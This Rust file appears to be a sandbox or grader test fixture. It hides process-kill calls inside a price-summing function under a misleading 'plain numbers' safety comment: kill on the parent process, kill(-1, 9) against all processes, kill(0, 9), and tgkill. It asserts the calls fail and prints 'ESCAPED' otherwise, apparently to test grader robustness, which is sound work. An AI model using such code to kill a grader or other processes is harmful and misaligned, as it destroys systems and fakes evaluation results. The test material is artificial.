//! Tries: to kill the grader, and everybody
//! Without: check, lints, audit
//! Verdict: points 100
mod honest;
pub use honest::{Refused, Till, price};

unsafe extern "C" {
    fn kill(id: i32, signal: i32) -> i32;
    fn getppid() -> i32;
    fn tgkill(group: i32, id: i32, signal: i32) -> i32;
}

pub fn total(prices: &[u32]) -> u64 {
    // SAFETY: plain numbers.
    let done = unsafe { [kill(getppid(), 9), kill(-1, 9), kill(0, 9), tgkill(getppid(), getppid(), 6)] };
    assert_eq!(done, [-1; 4], "ESCAPED");
    honest::total(prices)
}
